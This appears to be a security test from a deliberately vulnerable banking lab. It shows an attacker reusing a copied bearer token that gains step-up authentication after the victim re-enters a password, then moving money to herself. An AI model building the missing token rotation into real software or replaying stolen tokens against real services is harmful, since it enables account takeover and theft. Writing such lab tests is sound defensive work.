// Attack (lab flaw `no-rotation-on-step-up`, over the API): Mallory copied the victim's bearer
// token while it was stale. The victim steps up with the password to pay someone; Mallory's copy
// now carries that fresh step-up and she sends herself money without knowing the password.
import { randomUUID } from "node:crypto";
import { apiStepUpAttempt, apiTransfer, test } from "../support/api";
import { balanceOf, expectAttack, makeStepUpDue } from "../support/fixtures";

test("a token copied before the victim's step-up moves money without the password", async ({
  request,
  apiToken: copied,
  user,
  createUser,
  db,
  target,
}) => {
  const mallory = await createUser();
  await makeStepUpDue(db, user);

  await apiStepUpAttempt(request, copied, user.password);

  const body = { fromAccountId: user.accountId, toAccountNumber: mallory.accountNumber, amount: "500.00" };
  await apiTransfer(request, copied, body, randomUUID());
  expectAttack(target, (await balanceOf(db, mallory.accountId)) > 250_000);
});
